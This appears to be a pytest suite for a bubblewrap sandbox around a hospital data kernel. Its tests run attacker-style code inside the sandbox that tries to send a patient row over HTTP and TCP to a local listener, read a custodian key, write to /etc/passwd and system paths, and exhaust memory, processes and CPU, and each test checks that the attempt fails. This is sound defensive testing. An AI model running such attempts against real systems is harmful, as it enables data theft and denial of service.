"""The bubblewrap sandbox, tested from the attacker's side: code running inside tries to reach
the network, the custodian key, the data and the rest of the file system, and to outlive or
outgrow its limits."""

from __future__ import annotations

import json
import logging
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path
from types import SimpleNamespace

import pytest

from bedside.errors import GatewayError
from bedside.gateway import sandbox
from bedside.gateway.sandbox import SANDBOX_ENV, SandboxSpec, bwrap_argv, launch
from tests._hospital import egress_listener

pytestmark = pytest.mark.skipif(
    sandbox.shutil.which("bwrap") is None, reason="bubblewrap missing: run `make system`"
)


def make_policy(root: Path, *, memory_mb: int = 1024, cpu_seconds: int = 60, processes: int = 64):
    data = root / "data"
    data.mkdir(mode=0o755)
    csv = data / "patients.csv"
    csv.write_text("mrn,age\nMRN000123,54\n")
    csv.chmod(0o644)
    policy_file = root / "policy.yaml"
    policy_file.write_text("version: bedside/v1\n")
    policy_file.chmod(0o644)
    return SimpleNamespace(
        path=policy_file,
        datasets={"patients": SimpleNamespace(name="patients", path=csv)},
        limits=SimpleNamespace(
            memory_mb=memory_mb, cpu_seconds=cpu_seconds, processes=processes, wall_seconds=None
        ),
    )


@pytest.fixture
def world(tmp_path: Path):
    # pytest tmp dirs are 0700: open them so the kernel (its own uid under a root sentry) can read
    # the dataset, as a custodian's data directory would be.
    for parent in [tmp_path, *tmp_path.parents]:
        if str(parent) in ("/", "/tmp"):
            break
        parent.chmod(parent.stat().st_mode | 0o755)
    state = tmp_path / "state"
    state.mkdir(mode=0o700)
    key = tmp_path / "custodian.key"
    key.write_text("CUSTODIAN-SECRET-KEY")
    key.chmod(0o644)  # world-readable on purpose: only the binds may keep it out of reach
    policy = make_policy(tmp_path)
    spec = SandboxSpec(
        policy=policy,
        ipc_dir=state / "ipc",
        scratch_dir=state / "scratch",
        env={"BEDSIDE_TEST": "1"},
    )
    return SimpleNamespace(tmp=tmp_path, state=state, key=key, policy=policy, spec=spec)


def run_inside(code: str, spec: SandboxSpec, *, timeout: float = 60) -> tuple[int, dict]:
    """Run `code` in the sandbox; it reports by printing one JSON object on its last line."""
    proc = launch(
        [sys.executable, "-c", textwrap.dedent(code)],
        spec,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        out, err = proc.communicate(timeout=timeout)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    lines = out.decode().strip().splitlines()
    report = json.loads(lines[-1]) if lines and lines[-1].startswith("{") else {}
    report["_stderr"] = err.decode()
    return proc.returncode, report


def test_l39_network_egress_reaches_nothing(world):
    with egress_listener() as (port, received):
        # L39 from the leak corpus, pointed at our listener.
        code = f"""
            import json, urllib.request, socket
            result = {{}}
            try:
                urllib.request.urlopen("http://127.0.0.1:{port}/", data=b"MRN000123,54", timeout=2)
                result["urlopen"] = "sent"
            except Exception as exc:
                result["urlopen"] = type(exc).__name__
            try:
                socket.create_connection(("127.0.0.1", {port}), timeout=2)
                result["tcp"] = "connected"
            except OSError as exc:
                result["tcp"] = type(exc).__name__
            result["interfaces"] = [name for _, name in socket.if_nameindex()]
            print(json.dumps(result))
        """
        rc, report = run_inside(code, world.spec)
    assert rc == 0, report["_stderr"]
    assert report["urlopen"] != "sent"
    assert report["tcp"] != "connected"
    assert report["interfaces"] == ["lo"]  # a network namespace of its own, loopback only
    assert received == []


def test_custodian_key_and_sentry_state_are_invisible(world):
    secret_in_state = world.state / "sentry.ledger"
    secret_in_state.write_text("hospital ledger")
    code = f"""
        import json, os
        result = {{}}
        for name, path in {{"key": "{world.key}", "state": "{secret_in_state}"}}.items():
            try:
                result[name] = open(path).read()
            except OSError as exc:
                result[name] = type(exc).__name__
        result["tmp_listing"] = sorted(os.listdir("/tmp"))
        result["env"] = sorted(os.environ)
        print(json.dumps(result))
    """
    os.environ["BEDSIDE_HOST_SECRET"] = "do-not-pass"
    try:
        rc, report = run_inside(code, world.spec)
    finally:
        del os.environ["BEDSIDE_HOST_SECRET"]
    assert rc == 0, report["_stderr"]
    assert report["key"] == "FileNotFoundError"
    assert report["state"] == "FileNotFoundError"
    assert "CUSTODIAN-SECRET-KEY" not in json.dumps(report)
    assert "BEDSIDE_HOST_SECRET" not in report["env"]
    assert "BEDSIDE_TEST" in report["env"] and SANDBOX_ENV in report["env"]


def test_data_is_readable_but_read_only_and_writes_land_only_in_scratch(world):
    csv = world.policy.datasets["patients"].path
    code = f"""
        import json, os
        result = {{"read": open("{csv}").read()}}
        targets = {{
            "data": "{csv}",
            "data_dir": "{csv.parent}/new.csv",
            "usr": "/usr/bedside-owned",
            "etc": "/etc/passwd",
            "venv": "{sys.prefix}/owned",
            "root": "/owned",
        }}
        for name, path in targets.items():
            try:
                with open(path, "a") as fh:
                    fh.write("x")
                result[name] = "written"
            except OSError as exc:
                result[name] = type(exc).__name__
        with open("/tmp/scratch-ok", "w") as fh:
            fh.write("fine")
        result["home"] = os.environ["HOME"]
        result["uid"] = os.getuid()
        print(json.dumps(result))
    """
    rc, report = run_inside(code, world.spec)
    assert rc == 0, report["_stderr"]
    assert report["read"].startswith("mrn,age")
    for name in ("data", "data_dir", "usr", "etc", "venv", "root"):
        assert report[name] != "written", name
    assert (world.spec.scratch_dir / "scratch-ok").read_text() == "fine"
    assert report["home"] == "/tmp"
    assert csv.read_text() == "mrn,age\nMRN000123,54\n"
    if os.geteuid() == 0:
        assert report["uid"] in sandbox.KERNEL_UIDS


def test_rlimits_from_the_policy_apply(world):
    limited = SandboxSpec(
        policy=SimpleNamespace(
            path=None,
            datasets={},
            limits=SimpleNamespace(memory_mb=512, cpu_seconds=2, processes=8),
        ),
        ipc_dir=world.spec.ipc_dir,
        scratch_dir=world.spec.scratch_dir,
        env={},
    )
    code = """
        import json, os, resource
        result = {
            "as": resource.getrlimit(resource.RLIMIT_AS)[0],
            "cpu": resource.getrlimit(resource.RLIMIT_CPU)[0],
            "nproc": resource.getrlimit(resource.RLIMIT_NPROC)[0],
        }
        try:
            blob = bytearray(1024 * 1024 * 1024)
            result["alloc"] = "allocated"
        except MemoryError:
            result["alloc"] = "MemoryError"
        children, result["fork"] = [], "unlimited"
        for _ in range(64):
            try:
                pid = os.fork()
            except OSError as exc:
                result["fork"] = type(exc).__name__
                break
            if pid == 0:
                import time
                time.sleep(30)
                os._exit(0)
            children.append(pid)
        for pid in children:
            os.kill(pid, 9)
            os.waitpid(pid, 0)
        print(json.dumps(result), flush=True)
        while True:  # burn CPU until RLIMIT_CPU kills us
            pass
    """
    rc, report = run_inside(code, limited)
    assert report["as"] == 512 * 1024 * 1024
    assert report["cpu"] == 2
    assert report["nproc"] == 8
    assert report["alloc"] == "MemoryError"
    if os.geteuid() == 0:
        # RLIMIT_NPROC binds only because the kernel runs as a uid of its own, not as root.
        assert report["fork"] == "BlockingIOError"
    assert rc != 0  # SIGXCPU ended the busy loop


def test_kernel_dies_with_its_parent(world, tmp_path):
    marker = f"bedside-orphan-{os.getpid()}-{time.monotonic_ns()}"
    parent_code = f"""
        import sys, time
        from pathlib import Path
        from types import SimpleNamespace
        from bedside.gateway.sandbox import SandboxSpec, launch
        spec = SandboxSpec(
            policy=SimpleNamespace(path=None, datasets={{}}, limits=None),
            ipc_dir=Path("{world.spec.ipc_dir}"),
            scratch_dir=Path("{world.spec.scratch_dir}"),
            env={{}},
        )
        proc = launch([sys.executable, "-c", "import time; time.sleep(600)", "{marker}"], spec)
        print(proc.pid, flush=True)
        time.sleep(600)
    """
    parent = subprocess.Popen(
        [sys.executable, "-c", textwrap.dedent(parent_code)], stdout=subprocess.PIPE, text=True
    )
    try:
        assert parent.stdout is not None
        parent.stdout.readline()
        assert wait_for(lambda: bool(processes_with(marker)), 30)
        parent.send_signal(signal.SIGKILL)
        parent.wait()
        assert wait_for(lambda: not processes_with(marker), 30), processes_with(marker)
        # bubblewrap itself goes too, not only the kernel it ran.
        assert wait_for(lambda: not processes_with(marker, bwrap=True), 30)
    finally:
        if parent.poll() is None:
            parent.kill()
            parent.wait()
        for pid in processes_with(marker):
            os.kill(pid, signal.SIGKILL)


def test_no_sandbox_mode_is_loud_and_marked(world, caplog, monkeypatch):
    monkeypatch.delenv(SANDBOX_ENV, raising=False)
    code = "import json, os; print(json.dumps({'mode': os.environ.get('BEDSIDE_SANDBOX')}))"
    with caplog.at_level(logging.WARNING, logger="bedside.gateway.sandbox"):
        argv = [sys.executable, "-c", code]
        proc = launch(argv, world.spec, sandbox=False, stdout=subprocess.PIPE)
        out, _ = proc.communicate(timeout=60)
    assert json.loads(out) == {"mode": "off"}
    assert os.environ[SANDBOX_ENV] == "off"
    assert sandbox.sandbox_mode() == "off"
    assert any("WITHOUT the sandbox" in r.getMessage() for r in caplog.records)


def test_argv_never_binds_root_or_the_state_dir(world):
    argv = bwrap_argv([sys.executable, "-m", "bedside.kernel"], world.spec, drop_to=1_234_567)
    pairs = list(zip(argv, argv[1:], argv[2:], strict=False))
    binds = [(src, dst) for flag, src, dst in pairs if flag in ("--bind", "--ro-bind")]
    assert ("/", "/") not in binds
    sources = [src for src, _ in binds]
    assert str(world.key) not in sources and str(world.state.resolve()) not in sources
    assert str(world.spec.scratch_dir.resolve()) in sources
    for flag in ("--unshare-net", "--unshare-pid", "--die-with-parent", "--new-session"):
        assert flag in argv
    assert argv[argv.index("--cap-drop") + 1] == "ALL"
    assert "--clearenv" in argv


def test_extra_rw_is_bound_writable_at_its_own_path(world):
    import dataclasses

    outbox = world.spec.scratch_dir.parent / "kernel-outbox"
    spec = dataclasses.replace(world.spec, extra_rw=[outbox])
    argv = bwrap_argv([sys.executable, "-m", "bedside.kernel"], spec)
    pairs = list(zip(argv, argv[1:], argv[2:], strict=False))
    assert ("--bind", str(outbox.resolve()), str(outbox.resolve())) in pairs
    assert ("--ro-bind", str(outbox.resolve()), str(outbox.resolve())) not in pairs


def test_missing_kernel_executable_is_a_clear_error(world):
    with pytest.raises(GatewayError, match="not found"):
        bwrap_argv(["no-such-python-anywhere"], world.spec)


def processes_with(marker: str, *, bwrap: bool = False) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        args = cmdline.rstrip(b"\0").split(b"\0")
        # The kernel itself (bubblewrap's argv ends with the marker too).
        if args[-1] == marker.encode() and (bwrap or b"bwrap" not in args[0]):
            pids.append(int(entry.name))
    return pids


def wait_for(condition, timeout: float) -> bool:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.1)
    return condition()


@pytest.mark.skipif(os.geteuid() != 0, reason="the kernel's own uid is used under root only")
def test_ipc_and_scratch_must_live_in_a_private_directory(world, tmp_path):
    shared = tmp_path / "shared"
    shared.mkdir(mode=0o755)
    shared.chmod(0o755)
    spec = SandboxSpec(
        policy=world.policy, ipc_dir=shared / "ipc", scratch_dir=shared / "scratch", env={}
    )
    with pytest.raises(GatewayError, match="private directory"):
        launch([sys.executable, "-c", "pass"], spec)


def test_dev_shm_is_writable_private_and_capped(world):
    """joblib and multiprocessing need a writable /dev/shm (else: "[Errno 13] Permission denied
    … serial mode" on the kernel's stderr); the sandbox's is its own tmpfs, not the host's."""
    host_marker = Path("/dev/shm") / f"bedside-host-{os.getpid()}"
    host_marker.write_text("host")
    try:
        code = f"""
            import json, multiprocessing, os
            result = {{"host_visible": os.path.exists("{host_marker}")}}
            with open("/dev/shm/inside", "w") as fh:
                fh.write("kernel")
            st = os.statvfs("/dev/shm")
            result["size"] = st.f_blocks * st.f_frsize
            lock = multiprocessing.Lock()  # a POSIX semaphore under /dev/shm
            with lock:
                result["semaphore"] = True
            print(json.dumps(result))
        """
        rc, report = run_inside(code, world.spec)
    finally:
        host_marker.unlink()
    assert rc == 0, report["_stderr"]
    assert report["semaphore"] is True
    assert report["host_visible"] is False
    assert not (Path("/dev/shm") / "inside").exists()
    assert report["size"] == sandbox.shm_bytes(world.policy) == 256 * 2**20  # 1024 MB / 4
    assert "Permission denied" not in report["_stderr"]


def test_joblib_runs_in_parallel_without_warnings(world):
    code = """
        import json, warnings
        warnings.simplefilter("error")
        from joblib import Parallel, delayed
        out = Parallel(n_jobs=2, backend="loky")(delayed(pow)(i, 2) for i in range(4))
        print(json.dumps({"out": out}))
    """
    rc, report = run_inside(code, world.spec, timeout=120)
    assert rc == 0, report["_stderr"]
    assert report["out"] == [0, 1, 4, 9]
    assert "serial mode" not in report["_stderr"] and "Errno 13" not in report["_stderr"]
